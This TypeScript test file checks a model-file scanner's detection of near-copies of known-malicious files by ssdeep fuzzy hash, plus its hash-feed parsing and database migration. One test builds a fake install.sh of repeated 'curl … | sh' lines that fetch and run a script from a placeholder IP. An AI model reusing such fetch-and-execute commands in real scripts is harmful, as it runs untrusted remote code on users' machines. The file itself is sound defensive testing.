import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { factsBytes, factsPlugin, picklescanCorpus, scanBytes, scanPaths } from "@modelaudit/core/testing";
import Database from "better-sqlite3";
import { afterAll, describe, expect, it } from "vitest";
import { NEAR_COPY_MAX_BYTES } from "../src/fuzzy/near-copy-detector.js";
import { ssdeep } from "../src/fuzzy/ssdeep.js";
import { parseFeed } from "../src/hashdb/feed.js";
import { HashDatabase } from "../src/hashdb/hash-database.js";
import plugin from "../src/index.js";
import { fixturePath, summary, supplyChainOptions } from "./helpers.js";

// Made by tooling/fixtures/generate_near_copy_fixtures.py: known-bad.pkl (os.system payload),
// near-copy.pkl (another command, three weights changed), unrelated.pkl, feed.csv listing known-bad.
const fixture = (name: string) => fixturePath(`near-copy/${name}`);
const bytesOf = (name: string) => new Uint8Array(readFileSync(fixture(name)));
const sha256 = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");
const FEED_SOURCE = "near-copy fixture feed (generate_near_copy_fixtures.py)";

const directory = mkdtempSync(path.join(tmpdir(), "modelaudit-near-copy-"));
afterAll(() => rmSync(directory, { recursive: true, force: true }));

function databaseWith(name: string, feed: string): string {
  const file = path.join(directory, `${name}.sqlite`);
  const database = HashDatabase.openWritable(file);
  database.import(parseFeed(feed, name));
  database.close();
  return file;
}

const feed = readFileSync(fixture("feed.csv"), "utf8");
const hashdb = databaseWith("fixture-feed", feed);

describe("near-copies of known-malicious files (ssdeep in the known-hash database)", () => {
  it("a few changed bytes: the near-copy is critical (similarity 97), naming the source and the listed digest", async () => {
    const report = await scanPaths([fixture("near-copy.pkl")], [plugin], supplyChainOptions({ hashdb }));
    expect(summary(report)).toEqual([["supply-chain/known-malicious-near-copy", "critical", "nearCopy"]]);
    expect(report.findings[0]?.message).toBe(
      `the file's ssdeep digest is 97% similar to that of a file listed malicious by ${FEED_SOURCE} ` +
        `(SHA-256 ${sha256(bytesOf("known-bad.pkl"))})`,
    );
    expect(report.findings[0]?.evidence).toMatch(/^ssdeep 384:[^ ]+ ~ 384:/);
  });

  it("an unrelated file of the same kind and size is not a near-copy", async () => {
    const report = await scanPaths([fixture("unrelated.pkl")], [plugin], supplyChainOptions({ hashdb }));
    expect(report.findings).toEqual([]);
    expect(report.checks.find((check) => check.ruleId === "supply-chain/known-malicious-near-copy")?.status).toBe(
      "passed",
    );
  });

  it("the listed file itself is the exact-digest finding only, not also a near-copy of itself", async () => {
    const report = await scanPaths([fixture("known-bad.pkl")], [plugin], supplyChainOptions({ hashdb }));
    expect(summary(report)).toEqual([["supply-chain/known-malicious-hash", "critical", "knownMalicious"]]);
  });

  it("a near-copy inside nested members is found on its member chain", async () => {
    // A text sample (the facts handler's members are text); its digest from the ssdeep the vectors test checks.
    const lines = Array.from(
      { length: 400 },
      (_, index) => `curl -s http://198.51.100.${index % 250}/s${index * 7919} | sh`,
    );
    const sample = `${lines.join("\n")}\n`;
    const changed = sample.replace("s7919 |", "s7920 |").replace("/s15838", "/s15839");
    const listed = databaseWith(
      "text-sample",
      `sha256,verdict,source,ssdeep\n${sha256(new TextEncoder().encode(sample))},malicious,INC-12,${ssdeep(new TextEncoder().encode(sample))}\n`,
    );
    const nested = factsBytes({
      children: [{ name: "archive.zip", description: { children: [{ name: "install.sh", text: changed }] } }],
    });
    const report = await scanBytes("model.bin", nested, [plugin, factsPlugin], supplyChainOptions({ hashdb: listed }));
    const near = report.findings.filter((finding) => finding.ruleId === "supply-chain/known-malicious-near-copy");
    expect(near.map((finding) => [finding.memberChain, finding.message.replace(/ \(SHA-256 .*/, "")])).toEqual([
      [
        ["archive.zip", "install.sh"],
        expect.stringMatching(
          /^member archive.zip > install.sh's ssdeep digest is \d+% similar to that of a file listed malicious by INC-12$/,
        ),
      ],
    ]);
  });

  it("a benign listing is never a reason to call a near-copy malicious; no fuzzy digests: nothing is hashed", async () => {
    const benign = databaseWith("benign", feed.replace(",malicious,", ",benign,"));
    const report = await scanPaths([fixture("near-copy.pkl")], [plugin], supplyChainOptions({ hashdb: benign }));
    expect(report.findings).toEqual([]);
    const plain = databaseWith("plain", `sha256,verdict,source\n${"a".repeat(64)},malicious,x\n`);
    const without = await scanPaths([fixture("near-copy.pkl")], [plugin], supplyChainOptions({ hashdb: plain }));
    expect(without.checks.find((check) => check.ruleId === "supply-chain/known-malicious-near-copy")?.status).toBe(
      "skipped",
    );
  });

  it("sources over the size bound are not fuzzy-hashed; the quick level hashes nothing", async () => {
    const big = new Uint8Array(NEAR_COPY_MAX_BYTES + 1);
    big.set(bytesOf("near-copy.pkl"));
    const large = await scanBytes("large.pkl", big, [plugin], supplyChainOptions({ hashdb }));
    expect(large.findings).toEqual([]);
    const quick = await scanPaths([fixture("near-copy.pkl")], [plugin], {
      ...supplyChainOptions({ hashdb }),
      level: "quick",
    });
    expect(quick.findings).toEqual([]);
  });
});

describe.skipIf(picklescanCorpus() === undefined)("the picklescan corpus feed, with its ssdeep column", () => {
  const corpus = picklescanCorpus() as string;
  const labels: Record<string, { verdict: string }> = JSON.parse(
    readFileSync(path.join(corpus, "labels.json"), "utf8"),
  );
  const corpusDb = databaseWith(
    "corpus",
    readFileSync(new URL("../feeds/picklescan-test-corpus.csv", import.meta.url), "utf8"),
  );

  it("the zip variants of one real sample are near-copies of each other; no benign file is a near-copy", async () => {
    const report = await scanPaths(
      Object.keys(labels).map((name) => path.join(corpus, name)),
      [plugin],
      supplyChainOptions({ hashdb: corpusDb }),
    );
    const near = report.findings
      .filter((finding) => finding.ruleId === "supply-chain/known-malicious-near-copy")
      .map((finding) => path.relative(corpus, finding.file));
    expect(near.sort()).toEqual([
      "data/malicious1.zip",
      "data/malicious1_0x1.zip",
      "data/malicious1_0x20.zip",
      "data/malicious1_0x40.zip",
      "data2/malicious1_crc.zip",
    ]);
    expect(near.every((name) => labels[name]?.verdict === "malicious")).toBe(true);
  });
});

describe("the database with ssdeep digests", () => {
  it("feeds: an optional ssdeep column (CSV) or field (JSON); a malformed digest names its line", () => {
    const [entry] = parseFeed(feed, "feed.csv");
    expect(entry?.ssdeep).toMatch(/^384:/);
    expect(parseFeed(`sha256,verdict,source,ssdeep\n${"b".repeat(64)},benign,x,\n`)[0]).toEqual({
      sha256: "b".repeat(64),
      verdict: "benign",
      source: "x",
    });
    expect(
      parseFeed(JSON.stringify([{ sha256: "c".repeat(64), verdict: "malicious", source: "y", ssdeep: "3:ab:c" }])),
    ).toEqual([{ sha256: "c".repeat(64), verdict: "malicious", source: "y", ssdeep: "3:ab:c" }]);
    expect(() => parseFeed(`sha256,verdict,source,ssdeep\n${"b".repeat(64)},malicious,x,5:abc:d\n`, "f")).toThrow(
      /^f:2: ssdeep must be a digest blocksize:part1:part2/,
    );
    expect(() => parseFeed(`sha256,verdict,source,tlsh\n`, "f")).toThrow(/the first line must be the header/);
  });

  it("near-copy lookups: best first, only malicious entries, found through shared 7-character runs", () => {
    const database = HashDatabase.openReadOnly(hashdb);
    const near = database.nearCopies(parseFeed(feed)[0]?.ssdeep as string, 1);
    expect(near.map((match) => [match.source, match.score])).toEqual([[FEED_SOURCE, 100]]);
    expect(
      database.nearCopies("384:zj0hegt6KIqIoZVV6YgByW3jh5ae4qfdsmUYaqv6Tk7/iTPsOOL6R:30he4Ia19WV/rU9VTQKLgS", 1),
    ).toEqual([]);
    expect(database.stats()).toMatchObject({ total: 1, malicious: 1, fuzzy: 1 });
    database.close();
  });

  it("a version 1 database is read as before (no near-copies) and migrated, rows kept, when next written", () => {
    const file = path.join(directory, "v1.sqlite");
    const old = new Database(file);
    old.exec(`
      CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL);
      INSERT INTO meta VALUES ('schema_version', '1');
      CREATE TABLE known_hashes (sha256 TEXT NOT NULL CHECK (length(sha256) = 64),
        verdict TEXT NOT NULL CHECK (verdict IN ('malicious', 'benign')), source TEXT NOT NULL,
        PRIMARY KEY (sha256, source)) WITHOUT ROWID;
      INSERT INTO known_hashes VALUES ('${"d".repeat(64)}', 'malicious', 'old feed');
    `);
    old.close();
    const readOnly = HashDatabase.openReadOnly(file);
    expect(readOnly.lookup("d".repeat(64))).toEqual([{ verdict: "malicious", source: "old feed" }]);
    expect(readOnly.hasFuzzyDigests()).toBe(false);
    readOnly.close();
    const writable = HashDatabase.openWritable(file);
    expect(writable.import(parseFeed(feed))).toBe(1);
    writable.close();
    const migrated = HashDatabase.openReadOnly(file);
    expect(migrated.stats()).toMatchObject({ total: 2, malicious: 2, fuzzy: 1 });
    expect(migrated.hasFuzzyDigests()).toBe(true);
    migrated.close();
    const version = new Database(file, { readonly: true });
    expect(version.prepare("SELECT value FROM meta WHERE key = 'schema_version'").get()).toEqual({ value: "2" });
    version.close();
  });

  it("a source's new ssdeep digest replaces its old one (and its runs); re-importing the same changes nothing", () => {
    const file = path.join(directory, "replace.sqlite");
    const database = HashDatabase.openWritable(file);
    const digest = "e".repeat(64);
    const first = "96:abcdefghijklmnopqrstuvwxyz:ABCDEFGHIJKLMNOP";
    const second = "96:zyxwvutsrqponmlkjihgfedcba:PONMLKJIHGFEDCBA";
    expect(database.import([{ sha256: digest, verdict: "malicious", source: "s", ssdeep: first }])).toBe(1);
    expect(database.import([{ sha256: digest, verdict: "malicious", source: "s", ssdeep: first }])).toBe(0);
    expect(database.import([{ sha256: digest, verdict: "malicious", source: "s", ssdeep: second }])).toBe(1);
    expect(database.nearCopies(first, 1)).toEqual([]);
    expect(database.nearCopies(second, 1).map((match) => match.score)).toEqual([100]);
    expect(database.stats().fuzzy).toBe(1);
    database.close();
  });
});
